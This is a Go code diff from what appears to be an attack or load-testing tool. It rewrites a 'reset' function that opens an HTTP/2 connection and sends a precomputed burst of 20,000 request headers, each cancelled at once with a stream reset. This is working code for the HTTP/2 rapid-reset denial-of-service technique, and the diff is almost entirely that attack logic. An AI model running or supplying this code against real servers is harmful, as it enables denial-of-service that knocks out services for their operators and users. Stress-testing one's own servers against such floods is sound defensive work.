@@ -75,7 +75,7 @@ func pipeline(ctx context.Context, a *attack, i, _ int) {
 }
 
 // reset begins requests on one connection of HTTP/2 and resets each at once, until it is cut off.
-func reset(ctx context.Context, a *attack, i, _ int) {
+func reset(ctx context.Context, a *attack, _, _ int) {
 	config := toOurs()
 	config.NextProtos = []string{http2.NextProtoTLS}
 	conn, host := a.connect(ctx, config)
@@ -83,29 +83,33 @@ func reset(ctx context.Context, a *attack, i, _ int) {
 		return
 	}
 	defer conn.Close()
-	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
-		return
-	}
 	go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
-	var out, head bytes.Buffer
+	a.making.Do(func() { a.resets = resetsOf(host) })
+	_, _ = conn.Write(a.resets) // fails when it is cut off
+}
+
+// resetsOf is what such a connection sends. It is made once: the attack takes little of the
+// processors.
+func resetsOf(host string) []byte {
+	const requests = 20_000
+	var out, head bytes.Buffer // nothing that is written to memory fails
 	framer, packer := http2.NewFramer(&out, nil), hpack.NewEncoder(&head)
-	err := framer.WriteSettings()
-	for stream := uint32(1); err == nil; {
-		for range frontBatch {
-			head.Reset()
-			for _, field := range [][2]string{
-				{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", frontPath(i)},
-			} {
-				_ = packer.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // into memory
-			}
-			_ = framer.WriteHeaders(http2.HeadersFrameParam{
-				StreamID: stream, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true,
-			})
-			_ = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
-			stream += 2
+	out.WriteString(http2.ClientPreface)
+	_ = framer.WriteSettings()
+	for i := range requests {
+		head.Reset()
+		for _, field := range [][2]string{
+			{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", frontPath(i)},
+		} {
+			_ = packer.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
 		}
-		_, err = out.WriteTo(conn)
+		stream := uint32(2*i + 1)
+		_ = framer.WriteHeaders(http2.HeadersFrameParam{
+			StreamID: stream, BlockFragment: head.Bytes(), EndStream: true, EndHeaders: true,
+		})
+		_ = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
 	}
+	return out.Bytes()
 }
 
 // certFlag has the server serve TLS.
